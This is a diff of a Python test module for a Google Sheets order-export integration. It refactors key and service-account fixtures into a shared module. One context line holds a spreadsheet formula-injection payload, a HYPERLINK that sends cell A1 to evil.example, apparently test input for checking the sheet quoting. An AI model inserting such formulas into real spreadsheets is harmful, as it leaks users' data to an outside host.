@@ -27,8 +27,6 @@ from urllib.parse import parse_qs, unquote, urlsplit
 
 import jwt
 import pytest
-from cryptography.hazmat.primitives import serialization
-from cryptography.hazmat.primitives.asymmetric import rsa
 
 from orderhub.delivery.integrations.base import (
     SHEET_COLUMNS,
@@ -45,6 +43,7 @@ from orderhub.delivery.integrations.sheets.google import (
     quote_sheet,
 )
 from tests.fixtures.orders import api_order
+from tests.fixtures.peers import GOOGLE_CLIENT_EMAIL, rsa_key_pair, write_service_account
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 
@@ -341,10 +340,10 @@ class FakeGoogleSheets:
                 pass
 
             def do_GET(self) -> None:
-                fake._handle(self, "GET")
+                fake.handle(self, "GET")
 
             def do_POST(self) -> None:
-                fake._handle(self, "POST")
+                fake.handle(self, "POST")
 
         self.server = _QuietServer(("127.0.0.1", 0), Handler)
         self.server.daemon_threads = True
@@ -381,7 +380,7 @@ class FakeGoogleSheets:
 
     # -- protocol -------------------------------------------------------------------
 
-    def _handle(self, h: BaseHTTPRequestHandler, method: str) -> None:
+    def handle(self, h: BaseHTTPRequestHandler, method: str) -> None:
         parts = urlsplit(h.path)
         length = int(h.headers.get("Content-Length") or 0)
         raw = h.rfile.read(length) if length else b""
@@ -576,19 +575,10 @@ def _trim(values: list[Any]) -> list[Any]:
 
 @pytest.fixture(scope="module")
 def rsa_key() -> tuple[bytes, bytes]:
-    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
-    private = key.private_bytes(
-        serialization.Encoding.PEM,
-        serialization.PrivateFormat.PKCS8,
-        serialization.NoEncryption(),
-    )
-    public = key.public_key().public_bytes(
-        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
-    )
-    return private, public
+    return rsa_key_pair()
 
 
-CLIENT_EMAIL = "orderhub@orderhub-test.iam.gserviceaccount.com"
+CLIENT_EMAIL = GOOGLE_CLIENT_EMAIL
 SPREADSHEET = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
 
 
@@ -602,21 +592,7 @@ def google(rsa_key: tuple[bytes, bytes]) -> Iterator[FakeGoogleSheets]:
 
 @pytest.fixture
 def credentials_file(tmp_path: Path, rsa_key: tuple[bytes, bytes], google: FakeGoogleSheets) -> str:
-    path = tmp_path / "service-account.json"
-    path.write_text(
-        json.dumps(
-            {
-                "type": "service_account",
-                "project_id": "orderhub-test",
-                "private_key_id": "k1",
-                "private_key": rsa_key[0].decode(),
-                "client_email": CLIENT_EMAIL,
-                "client_id": "1234567890",
-                "token_uri": google.token_uri,
-            }
-        )
-    )
-    return str(path)
+    return write_service_account(tmp_path / "service-account.json", rsa_key[0], google.token_uri)
 
 
 def make_writer(
